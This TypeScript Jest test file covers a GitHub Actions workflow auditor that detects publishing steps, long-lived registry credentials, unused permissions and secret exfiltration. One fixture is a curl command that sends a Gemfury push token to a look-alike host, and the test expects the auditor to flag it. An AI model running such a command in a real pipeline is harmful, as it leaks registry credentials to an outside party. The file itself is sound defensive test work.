/**
 * Publishers and services a sweep of 30 real repositories found missing from the catalogue:
 * docker/bake-action pushes (dependabot-core), covector's action (tauri), Gemfury and
 * Cloudsmith uploads (caddy), an action the gate cannot read given a registry password
 * (prometheus), the anaconda.org nightly channel (networkx, scikit-image), winget (fd), and
 * Codecov's OIDC upload (renovate). Each with a near-miss that stays as it was.
 */
import { describe, expect, it } from '@jest/globals'
import { parseWorkflow } from '../../src/workflow/model.js'
import { isRehearsal, stepPublishes } from '../../src/workflow/publish.js'
import { stepCommands } from '../../src/workflow/actions.js'
import { auditWorkflow, ofRule } from '../helpers/audit.js'

const BAKE = 'docker/bake-action@d3418bd7d0e9324001bca92fa8ba175ea7e6dc9b # v7.3.0'

/** A one-step job: `step` is the YAML of the step, indented as a list item of `steps:`. */
function wfOf(step: string, jobExtra = ''): ReturnType<typeof parseWorkflow> {
  return parseWorkflow(`on:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n  release:\n    runs-on: ubuntu-latest\n${jobExtra}    steps:\n${step}`, '.github/workflows/release.yml')
}

function published(step: string): string | undefined {
  const sig = stepPublishes(wfOf(step).jobs[0].steps[0])
  return sig ? sig.registry : undefined
}

describe('docker/bake-action', () => {
  it.each([
    ['push: true', `      - uses: ${BAKE}\n        with:\n          push: true\n          targets: updater\n`],
    ['set: *.output=type=registry', `      - uses: ${BAKE}\n        with:\n          targets: \${{ matrix.target }}\n          set: |\n            \${{ matrix.target }}.output=type=registry\n            \${{ matrix.target }}.tags=ghcr.io/acme/updater:1.0\n`],
    ['set: *.push=true', `      - uses: ${BAKE}\n        with:\n          set: '*.push=true'\n`],
    ['set: an output from an expression', `      - uses: ${BAKE}\n        with:\n          set: '*.output=\${{ inputs.output }}'\n`],
    ['a target named for publishing (its output is in the bake file)', `      - uses: ${BAKE}\n        with:\n          source: .\n          targets: updater-core-publish\n`],
  ])('%s pushes images', (_what, step) => {
    expect(published(step)).toBe('container')
  })

  it.each([
    ['no push, a local docker output', `      - uses: ${BAKE}\n        with:\n          set: |\n            \${{ matrix.target }}.output=type=docker\n            \${{ matrix.target }}.tags=updater:validation\n`],
    ['push: false', `      - uses: ${BAKE}\n        with:\n          push: false\n`],
    ['a target not named for publishing', `      - uses: ${BAKE}\n        with:\n          targets: updater-core-test\n`],
    ['overrides from the matrix (buildx e2e)', `      - uses: ${BAKE}\n        with:\n          set: \${{ matrix.overrides }}\n`],
    ['the matrix sub-action', '      - uses: docker/bake-action/subaction/matrix@d3418bd7d0e9324001bca92fa8ba175ea7e6dc9b # v7.3.0\n        with:\n          target: ecosystem\n'],
  ])('near-miss: %s pushes nothing', (_what, step) => {
    expect(published(step)).toBeUndefined()
  })
})

describe('covector, Gemfury, Cloudsmith, anaconda.org nightly, winget', () => {
  it.each([
    ['covector version-or-publish', '      - uses: jbolda/covector/packages/action@04ffcbcc6a5b3e1b9f5e4e1b5a4b0c6f1bc2d4e5 # covector-v0\n        with:\n          command: version-or-publish\n', 'npm'],
    ['covector publish', '      - uses: jbolda/covector/packages/action@04ffcbcc6a5b3e1b9f5e4e1b5a4b0c6f1bc2d4e5 # covector-v0\n        with:\n          command: publish\n', 'npm'],
    ['curl to push.fury.io', '      - run: curl -F package=@"$f" https://${GEMFURY_PUSH_TOKEN}:@push.fury.io/caddy/\n', 'gemfury'],
    ['cloudsmith push', '      - run: cloudsmith push deb caddy/stable/any-distro/any-version dist/caddy.deb\n', 'cloudsmith'],
    ['upload-nightly-action', '      - uses: scientific-python/upload-nightly-action@b36e8c0c10dbcfd2e05bf95f17ef8c14fd708dbf # 0.6.2\n        with:\n          artifacts_path: dist\n          anaconda_nightly_upload_token: ${{ secrets.ANACONDA_NIGHTLY }}\n', 'conda'],
    ['winget-releaser', '      - uses: vedantmgoyal9/winget-releaser@4ffc7888bffd451b357355dc214d43bb9f23917e # v2\n        with:\n          identifier: sharkdp.fd\n          token: ${{ secrets.WINGET_TOKEN }}\n', 'winget'],
  ])('%s publishes', (_what, step, registry) => {
    expect(published(step)).toBe(registry)
  })

  it.each([
    ['covector version', '      - uses: jbolda/covector/packages/action@04ffcbcc6a5b3e1b9f5e4e1b5a4b0c6f1bc2d4e5 # covector-v0\n        with:\n          command: version\n'],
    ['curl to another host', '      - run: curl -F package=@dist/x.deb https://uploads.example.com/caddy/\n'],
    ['installing the Cloudsmith CLI', '      - run: pip install --upgrade cloudsmith-cli\n'],
  ])('near-miss: %s publishes nothing', (_what, step) => {
    expect(published(step)).toBeUndefined()
  })
})

describe('an action the gate cannot read, given a registry password', () => {
  const PROMCI = (inputs: string) => `      - uses: prometheus/promci/publish_main@370e8c15dcec50043cbe66f2f34633d9efc0a190 # v0.9.0\n        with:\n${inputs}`
  it('is read as publishing to the registry the input is named for, and a warning says it could not be read', () => {
    const wf = wfOf(PROMCI('          docker_hub_login: ${{ secrets.docker_hub_login }}\n          docker_hub_password: ${{ secrets.docker_hub_password }}\n          ghcr_io_password: ${{ github.token }}\n          quay_io_password: ${{ secrets.quay_io_password }}\n'), '    permissions:\n      packages: write\n')
    const sig = stepPublishes(wf.jobs[0].steps[0])!
    expect(sig.registry).toBe('container')
    expect(sig.script).toEqual({ evidence: expect.stringMatching(/which the gate cannot read, given `docker_hub_password` \(`secrets\.docker_hub_password`\): read as publishing/), assumed: true })
    const r = auditWorkflow(wf)
    expect(r.files[0].targets).toEqual(['release'])
    expect(ofRule(r, 'missing-environment').map((f) => f.severity)).toEqual(['error'])
    const warnings = ofRule(r, 'use-trusted-publishing')
    expect(warnings.map((f) => [f.severity, f.line])).toEqual([['warning', 14], ['warning', 16]])
    expect(warnings[0].message).toMatch(/which the gate cannot read, is given the registry credential `secrets\.docker_hub_password` \(`docker_hub_password`\): it is read as publishing/)
  })

  it.each([
    ['a login name, not a password', '          docker_hub_login: ${{ secrets.docker_hub_login }}\n'],
    ['the job token', '          ghcr_io_password: ${{ github.token }}\n'],
    ['a secret named for a registry given to an input named for something else', '          app-id: ${{ secrets.POETRY_TOKEN_APP_ID }}\n'],
  ])('near-miss: %s', (_what, inputs) => {
    expect(stepPublishes(wfOf(PROMCI(inputs)).jobs[0].steps[0])).toBeUndefined()
  })
})

describe('text inside echo is not a command', () => {
  const stepOf = (run: string) => wfOf(`      - run: |\n${run.split('\n').map((l) => `          ${l}`).join('\n')}\n`).jobs[0].steps[0]
  it('echo "gh release create … --draft" >> $GITHUB_STEP_SUMMARY publishes nothing (dependabot-core)', () => {
    const s = stepOf('gh pr create --fill\necho "    gh release create v1.2.3 --title v1.2.3 --generate-notes --draft" >> $GITHUB_STEP_SUMMARY')
    expect(stepPublishes(s)).toBeUndefined()
    expect(stepCommands(s).map((c) => c.label)).toEqual(['gh pr create'])
  })

  it.each([
    ['piped to a shell', 'echo "npm publish --provenance" | sh'],
    ['written to a file', 'echo "npm publish" > publish.sh && bash publish.sh'],
    ['a command substitution inside the quotes', 'echo "$(npm publish --provenance)"'],
    ['echo not at the start of a command', 'npm publish --provenance # echo "x"'],
  ])('near-miss: %s still publishes', (_what, run) => {
    expect(stepPublishes(stepOf(run))?.registry).toBe('npm')
  })

  it('`--draft"` closing a quoted command is a draft; `--title "… --draft"` is not', () => {
    expect(isRehearsal(stepOf('sh -c "gh release create v1 --generate-notes --draft"'))).toBe(true)
    expect(isRehearsal(stepOf('gh release create v1 --title "v1 --draft" dist/*'))).toBe(false)
  })
})

describe('services a secret belongs to, and Cloudsmith OIDC', () => {
  const deb = (env: string, run: string) =>
    wfOf(`      - uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8\n      - name: Publish .deb\n        env:\n${env}        run: |\n          for f in dist/*.deb; do\n            ${run}\n          done\n`, '    environment: release\n    permissions:\n      contents: read\n')

  it('GEMFURY_PUSH_TOKEN sent to push.fury.io is its own service, not exfiltration (caddy); Gemfury has no OIDC, so no trusted-publishing finding', () => {
    const r = auditWorkflow(deb('          GEMFURY_PUSH_TOKEN: ${{ secrets.GEMFURY_PUSH_TOKEN }}\n', 'curl -F package=@"$f" https://${GEMFURY_PUSH_TOKEN}:@push.fury.io/caddy/'))
    expect(r.files[0].targets).toEqual(['release'])
    expect(ofRule(r, 'secret-exfiltration')).toEqual([])
    expect(ofRule(r, 'use-trusted-publishing')).toEqual([])
  })

  it('near-miss: the Gemfury token sent to another host is still exfiltration', () => {
    const r = auditWorkflow(deb('          GEMFURY_PUSH_TOKEN: ${{ secrets.GEMFURY_PUSH_TOKEN }}\n', 'curl -F package=@"$f" https://${GEMFURY_PUSH_TOKEN}:@push.fury.io.example.net/caddy/'))
    expect(ofRule(r, 'secret-exfiltration').map((f) => f.severity)).toEqual(['error'])
  })

  it('CLOUDSMITH_API_KEY reaching `cloudsmith push`: Cloudsmith takes an OIDC token instead, an error', () => {
    const r = auditWorkflow(deb('          CLOUDSMITH_API_KEY: ${{ secrets.CLOUDSMITH_API_KEY }}\n', 'cloudsmith push deb caddy/stable/any-distro/any-version "$f"'))
    expect(r.files[0].targets).toEqual(['release'])
    expect(ofRule(r, 'use-trusted-publishing').map((f) => [f.severity, f.message])).toEqual([['error', '`CLOUDSMITH_API_KEY` carries the long-lived Cloudsmith credential `secrets.CLOUDSMITH_API_KEY` to a publishing step']])
    expect(ofRule(r, 'secret-exfiltration')).toEqual([])
  })
})

describe('codecov-action with use_oidc uses id-token (renovate)', () => {
  const CODECOV = 'codecov/codecov-action@fb8b3582c8e4def4969c97caa2f19720cb33a72f # v7.0.0'
  const build = (withs: string) =>
    parseWorkflow(
      `on:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n  codecov:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c # v8\n      - uses: ${CODECOV}\n${withs}  release:\n    needs: [codecov]\n    runs-on: ubuntu-latest\n    environment: release\n    permissions:\n      id-token: write\n    steps:\n      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n        with:\n          persist-credentials: false\n      - run: npm ci && npm publish --provenance\n`,
      '.github/workflows/build.yml',
    )
  it('`use_oidc: true`: excessive-permissions does not call the grant unused', () => {
    expect(ofRule(auditWorkflow(build('        with:\n          use_oidc: true\n')), 'excessive-permissions')).toEqual([])
  })
  it('near-miss: codecov without use_oidc does not use id-token', () => {
    const fs = ofRule(auditWorkflow(build('        with:\n          files: coverage.xml\n')), 'excessive-permissions')
    expect(fs.map((f) => f.message)).toEqual(['job `codecov` holds `id-token: write` but neither publishes nor signs: any step in it can mint an OIDC token that trusted publishing accepts for this repository'])
  })
})

describe('near-misses the sweep turned up once image jobs became publishing', () => {
  it('a container description pushed to Docker Hub with its password publishes no image (prometheus)', () => {
    for (const step of [
      '      - uses: christian-korneck/update-container-description-action@d36005551adeaba9698d8d67a296bd16fa91f8e8 # v1\n        env:\n          DOCKER_USER: ${{ secrets.DOCKER_HUB_LOGIN }}\n          DOCKER_PASS: ${{ secrets.DOCKER_HUB_PASSWORD }}\n        with:\n          destination_container_repo: prom/prometheus\n          provider: dockerhub\n',
      '      - uses: peter-evans/dockerhub-description@432a30c9e07499fd01da9f8a49f0faf9e0ca5b77 # v4.0.2\n        with:\n          username: ${{ secrets.DOCKERHUB_USERNAME }}\n          password: ${{ secrets.DOCKERHUB_TOKEN }}\n          repository: acme/app\n',
    ]) expect(published(step)).toBeUndefined()
  })

  it('attest-build-provenance pushing its attestation to the registry uses `artifact-metadata: write` (dependabot-core); without push-to-registry the grant is unused, a warning', () => {
    const job = (withs: string) =>
      auditWorkflow(
        wfOf(
          `      - uses: ${BAKE}\n        id: build\n        with:\n          push: true\n      - uses: actions/attest-build-provenance@4d101475d8b20a2381f78447822ac1eab6504dd8 # v4.2.2\n        with:\n          subject-name: ghcr.io/acme/updater\n          subject-digest: \${{ steps.build.outputs.digest }}\n${withs}`,
          '    environment: images\n    permissions:\n      id-token: write\n      packages: write\n      attestations: write\n      artifact-metadata: write\n',
        ),
      )
    expect(ofRule(job('          push-to-registry: true\n'), 'excessive-permissions')).toEqual([])
    expect(ofRule(job(''), 'excessive-permissions').map((f) => [f.severity, f.message])).toEqual([['warning', 'publishing job `release` holds `artifact-metadata: write`, which none of its steps uses']])
  })
})
